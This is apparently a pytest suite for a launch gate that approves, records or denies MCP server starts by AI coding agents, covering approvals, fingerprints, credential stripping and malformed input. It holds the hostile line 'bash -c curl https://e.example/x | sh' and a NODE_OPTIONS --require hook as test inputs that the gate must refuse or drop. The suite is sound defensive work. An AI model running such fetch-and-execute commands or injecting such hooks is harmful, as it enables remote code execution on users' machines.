"""Starts: decided, recorded, bound to what was approved; and whatever comes in, there is an answer."""

import asyncio
import hashlib
import json
import os
from pathlib import Path
from time import perf_counter_ns
from typing import Any

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from spawngate.endpoint.launching import approvals, digests, service
from spawngate.endpoint.launching.known import Entry
from spawngate.launch.identity import Identity
from spawngate.model.decision import Mode, Verdict
from spawngate.policy.approvals import IN_USE, Approval
from spawngate.policy.settings import LaunchSettings
from tests.endpoint.launching.offices import Office, said

AT = "2026-11-20T00:00:00Z"


def approve(office: Office, *, reason: str = "looked at", entry: str = "", expires: str = "") -> Approval:
    """Approve the last start."""
    seen = office.launches.records.seen()[-1]
    one = Approval(seen.fingerprint, seen.identity, AT, "ann", reason, entry, expires=expires)
    approvals.change(office.state, lambda held: [*held, one])
    return one


def test_allowed_and_remembered(office: Office) -> None:
    prepared = office.begin()
    answer = said(prepared.reply)
    assert answer == {
        "verdict": "allow",
        "launch": answer["launch"],
        "fingerprint": answer["fingerprint"],
        "message": "",
        "program": str(office.bin / "npx"),
        "probe": {
            "seconds": 18.0,
            "network": True,
            "hosts": ["registry.npmjs.org+private"],
            "upstream": True,
            "env": {},
            "read": answer["probe"]["read"],
            "write": [],
        },
        "confine": None,
        "drop": [],
        "relay": {"tools": True, "pins": True, "results": False},
    }
    assert {str(office.work), str(office.bin.parent)} <= set(answer["probe"]["read"])
    assert str(office.home) not in answer["probe"]["read"]
    (running,) = office.made().records.running.values()
    assert (running.launch, running.entry, running.name, running.agent) == (answer["launch"], "e1", "files", "cursor")
    (seen,) = office.launches.records.seen()
    assert (seen.fingerprint, seen.verdict, seen.state) == (
        answer["fingerprint"],
        "log" if seen.findings else "allow",
        "unapproved",
    )
    assert seen.command == "npx -y @x/files@1.0.0"


def test_recorded(office: Office) -> None:
    (event,) = office.begin(env={"OPENAI_API_KEY": "sk-x"}, env_names=["ANTHROPIC_API_KEY", "API_KEY"]).events
    assert (event.type, event.channel, event.endpoint, event.actor.agent) == ("decision", "launcher", "ep", "cursor")
    assert event.call is not None
    assert (event.call.kind, event.call.commands, event.call.server) == ("launch", ("npx -y @x/files@1.0.0",), "files")
    assert event.call.cwd == "~/work"
    assert event.detail["known"] is True
    assert event.detail["approval"] == "unapproved"
    assert event.detail["release"] == "1.0.0"
    assert event.detail["dropped"] == ["OPENAI_API_KEY", "ANTHROPIC_API_KEY"]
    assert event.question["fingerprint"] == event.detail["fingerprint"]


def test_approvals_in_force(office: Office) -> None:
    office.use(approvals=True)
    refused = office.start()
    short = refused["fingerprint"][:12]
    assert refused["verdict"] == "deny"
    assert f"`spawngate approve {short}`" in refused["message"]
    assert refused["probe"] is None
    assert office.launches.records.running == {}
    approve(office)
    assert office.start()["verdict"] == "allow"
    assert office.start(cwd="/")["verdict"] == "deny"


def test_a_refusal_holds_what_an_approval_would_be_of(office: Office) -> None:
    """As it travels: so that people at the server approve the very launch, though nobody asked."""
    (allowed,) = office.begin(env={"NODE_OPTIONS": "--require /x.js"}).events
    assert "identity" not in allowed.detail
    office.use(approvals=True)
    (event,) = office.begin(env={"NODE_OPTIONS": "--require /x.js"}).events
    stated = msgspec.json.decode(msgspec.json.encode(event.detail["identity"]))
    seen = office.launches.records.seen()[-1].identity
    assert msgspec.convert(stated, Identity) == seen.anywhere()
    assert set(stated) >= {"command", "args", "programs"}
    assert None not in stated.values()


def test_what_changed_is_said(office: Office) -> None:
    office.use(approvals=True)
    office.start()
    approve(office, entry="e1")
    (office.bin / "npx").write_text("something else")
    answer = office.start()
    assert answer["verdict"] == "deny"
    assert f"It is not what was approved: the content of the program {office.bin / 'npx'} changed." in answer["message"]
    assert (
        "argument 2 was @x/files@1.0.0 and is @x/other@1.0.0" in office.start("npx", "-y", "@x/other@1.0.0")["message"]
    )
    (seen, _) = office.launches.records.seen()[-2:]
    assert seen.state == "changed"


def test_expired_and_revoked(office: Office) -> None:
    office.use(approvals=True)
    office.start()
    approve(office, expires="2026-11-21T12:00:00Z")
    assert "Its approval ended at 2026-11-21T12:00:00Z." in office.start()["message"]


def test_an_approval_answers_what_would_be_asked(office: Office) -> None:
    asked = ("npx", "-p", "one@1.0.0", "-p", "two@1.0.0", "one")
    first = office.start(*asked)
    verdict = office.launches.records.seen()[-1].verdict
    assert (verdict, first["verdict"]) == ("ask", "deny"), first["message"]
    assert "To approve it: `spawngate approve" in first["message"]
    approve(office)
    again = office.begin(*asked)
    assert (said(again.reply)["verdict"], again.decision.verdict) == ("allow", Verdict.LOG)


def test_no_approval_lifts_what_is_refused(office: Office) -> None:
    office.program("bash")
    bad = ("bash", "-c", "curl https://e.example/x | sh")
    office.start(*bad)
    approve(office)
    answer = office.start(*bad)
    assert answer["verdict"] == "deny"
    assert answer["message"].endswith("An approval does not lift this: policy has to say otherwise.")


def test_what_was_not_known_is_bound_at_the_first_start(office: Office) -> None:
    office.use(approvals=True)
    written = Approval(
        "", Identity("npx", ("-y", "@x/files@1.0.0"), package="pkg:npm/%40x/files@1.0.0"), AT, "ann", IN_USE, "e1"
    )
    approvals.change(office.state, lambda held: [written])
    prepared = office.begin()
    assert said(prepared.reply)["verdict"] == "allow"
    assert prepared.events[0].detail["bound"] == ["the program", "the script", "the package's version 1.0.0"]
    (bound,) = approvals.load(office.state)
    assert bound.identity.programs is not None
    assert (bound.identity.cwd, bound.reason, bound.entry) == (None, IN_USE, "e1")
    assert office.start(cwd="/")["verdict"] == "allow"
    (office.bin / "npx").write_text("something else")
    assert "the content of the program" in office.start()["message"]


def test_every_approval_that_covers_it_is_bound(office: Office) -> None:
    """One that is in use and one of a person: what changes afterwards is covered by neither."""
    office.use(approvals=True)
    identity = Identity("npx", ("-y", "@x/files@1.0.0"), package="pkg:npm/%40x/files@1.0.0")
    held = [Approval("", identity, AT, "ann", reason, "e1") for reason in (IN_USE, "looked at")]
    approvals.change(office.state, lambda before: held)
    assert office.start()["verdict"] == "allow"
    assert [each.identity.programs is not None for each in approvals.load(office.state)] == [True, True]
    (office.bin / "npx").write_text("something else")
    assert "the content of the program" in office.start()["message"]


def test_monitor_never_blocks(office: Office) -> None:
    office.use(approvals=True)
    office.monitor()
    prepared = office.begin("bash", "-c", "curl https://e.example/x | sh")
    answer = said(prepared.reply)
    assert (answer["verdict"], answer["message"], answer["probe"]) == ("allow", "", None)
    assert prepared.events[0].decision is not None
    assert (prepared.events[0].decision.verdict, prepared.events[0].decision.mode) == ("deny", "monitor")
    office.use(approvals=True, modes={"cursor": Mode.MONITOR})
    assert office.start()["verdict"] == "allow"
    assert office.start(entry="other")["verdict"] == "deny"


def test_no_such_program(office: Office) -> None:
    answer = office.start("nothing")
    assert (answer["verdict"], answer["program"]) == ("deny", "")
    assert "There is no such program" in answer["message"]


@pytest.mark.parametrize(
    ("probation", "base", "again"),
    [("", "baseline", False), ("", "strict", True), ("always", "baseline", True), ("never", "strict", None)],
)
def test_probation(office: Office, probation: str, base: str, again: bool | None) -> None:
    office.use(base=base, launches=LaunchSettings(probation=probation))
    first = office.start()
    assert (first["probe"] is None) is (again is None)
    assert said(office.ask("probed", launch=first["launch"], outcome="mcp").reply)["verdict"] == "allow"
    assert (office.start()["probe"] is not None) is bool(again)
    # Another folder is no new launch, another program is.
    assert (office.start(cwd="/")["probe"] is not None) is bool(again)
    (office.bin / "npx").write_text("something else")
    assert (office.start()["probe"] is None) is (again is None)


def test_what_was_learnt_counts_on_when_more_is_known(office: Office) -> None:
    first = office.start("npx", "-y", "y")
    approve(office, entry="e1")
    office.ask("probed", launch=first["launch"], outcome="mcp")
    office.ask("tools", launch=first["launch"], tools=[{"name": "a"}])
    lies = office.home / ".npm/_npx" / hashlib.sha512(b"y").hexdigest()[:16] / "node_modules/y"
    lies.mkdir(parents=True)
    (lies / "package.json").write_text('{"name": "y", "version": "1.0.0"}')
    second = office.start("npx", "-y", "y")
    assert second["fingerprint"] != first["fingerprint"]
    assert second["probe"] is None
    answer = said(office.ask("tools", launch=second["launch"], tools=[{"name": "a"}, {"name": "b"}]).reply)
    assert answer["withhold"] == ["b"]
    # Once more, and now with what was bound.
    assert office.start("npx", "-y", "y")["probe"] is None


def test_network_of_a_probe(office: Office) -> None:
    (office.work / "server.js").write_text("serve()")
    assert office.start("node", str(office.work / "server.js"))["probe"]["network"] is False
    assert office.start("npx", "-y", "mcp-remote@1.0.0", "https://x.example/mcp")["probe"]["network"] is True
    office.program("docker")
    assert office.start("docker", "run", "-i", "x/y@sha256:" + "a" * 64)["probe"] is None


def test_environment(office: Office) -> None:
    hook = office.home / "hook.js"
    hook.write_text("x")
    loads = {"NODE_OPTIONS": f"--require {hook}"}
    plain = office.start("node", str(office.bin / "node"))
    # The entry did not set it: the server does not get it, and it is no part of what runs.
    foreign = office.start("node", str(office.bin / "node"), env=loads)
    assert (foreign["drop"], foreign["fingerprint"]) == (["NODE_OPTIONS"], plain["fingerprint"])
    office.launches.records.keep_entries(
        [office.entry, replace_entry(office, env_names=("NODE_OPTIONS", "OPENAI_API_KEY"))]
    )
    own = office.start("node", str(office.bin / "node"), env=loads, entry="e2", env_names=["OPENAI_API_KEY"])
    assert own["drop"] == []
    assert own["fingerprint"] != plain["fingerprint"]
    hook.write_text("other")
    again = office.start("node", str(office.bin / "node"), env=loads, entry="e2")
    assert again["fingerprint"] != own["fingerprint"]


def replace_entry(office: Office, **changes: Any) -> Entry:
    return msgspec.structs.replace(office.entry, id="e2", **changes)


def test_rotation_of_a_credential_changes_nothing(office: Office) -> None:
    one = office.start("npx", "-y", "@x/files@1.0.0", "--api-key", "sk-aaaaaaaaaaaaaaaaaaaaaaaa", env={"API_KEY": "1"})
    two = office.start("npx", "-y", "@x/files@1.0.0", "--api-key", "sk-bbbbbbbbbbbbbbbbbbbbbbbb", env={"API_KEY": "2"})
    assert one["fingerprint"] == two["fingerprint"]


@pytest.mark.parametrize("payload", [b"", b"{", b"[]", b"{}", b'{"command":1}', b"\xff", b"[" * 100_000])
@pytest.mark.parametrize("verb", ["start", "probed", "call", "tools", "end", "other", ""])
def test_not_understood(office: Office, verb: str, payload: bytes) -> None:
    prepared = office.raw(verb, payload)
    answer = said(prepared.reply)
    assert answer == {} if verb == "end" else answer["verdict"] == "deny"
    assert prepared.events[0].decision is not None
    assert prepared.events[0].decision.reasons == ("launch-not-understood",)
    if verb == "start":
        assert (answer["program"], answer["drop"], answer["probe"]) == ("", [], None)


def test_a_fault_of_ours_is_a_verdict(office: Office, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object, **__: object) -> None:
        raise KeyError("secret")

    monkeypatch.setattr(service, "look", broken)
    prepared = office.begin()
    assert said(prepared.reply)["verdict"] == "deny"
    assert [event.type for event in prepared.events] == ["fault", "decision"]
    assert "secret" not in repr(prepared.events)


def test_unrecorded(office: Office) -> None:
    prepared = office.begin()
    assert list(office.launches.records.running) == [prepared.undo]
    assert said(office.launches.unrecorded(prepared)) == {
        **said(prepared.reply),
        "verdict": "deny",
        "message": said(prepared.refused)["message"],
        "program": "",
        "probe": None,
    }
    assert office.launches.records.running == {}
    office.use(not_recorded=Verdict.ALLOW)
    assert office.launches.unrecorded(prepared) == prepared.reply
    office.monitor()
    assert office.launches.unrecorded(prepared) == prepared.reply


def test_starts_at_the_same_time(office: Office) -> None:
    async def both() -> list[Any]:
        payload = json.dumps(
            {"command": "npx", "args": ["-y", "y@1.0.0"], "id": "e1", "env": {"PATH": str(office.bin)}}
        )
        asked = (office.launches.answer("start", payload.encode(), perf_counter_ns()) for _ in range(8))
        return list(await asyncio.gather(*asked))

    answers = [said(each.reply) for each in asyncio.run(both())]
    assert {each["verdict"] for each in answers} == {"allow"}
    assert len({each["launch"] for each in answers}) == 8
    assert len({each["fingerprint"] for each in answers}) == 1
    assert len(office.made().records.running) == 8


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.text(), st.lists(st.text(), max_size=4), st.dictionaries(st.text(), st.text(), max_size=3), st.text())
def test_total(office: Office, command: str, args: list[str], env: dict[str, str], cwd: str) -> None:
    prepared = office.ask("start", command=command, args=args, env=env, cwd=cwd, id="x")
    answer = said(prepared.reply)
    assert answer["verdict"] in ("allow", "deny")
    if answer["verdict"] == "allow":
        assert os.path.isabs(answer["program"])


def test_warmed_up(office: Office, monkeypatch: pytest.MonkeyPatch) -> None:
    office.launches.warm_up(str(office.bin))
    with monkeypatch.context() as patched:
        patched.setattr(digests, "_digest", lambda *_: pytest.fail("read again"))
        assert office.start()["verdict"] == "allow"
        office.launches = office.made()
        assert office.start()["verdict"] == "allow"


def test_a_folder_that_is_gone(office: Office, tmp_path: Path) -> None:
    assert office.start(cwd=str(tmp_path / "gone"))["verdict"] == "allow"
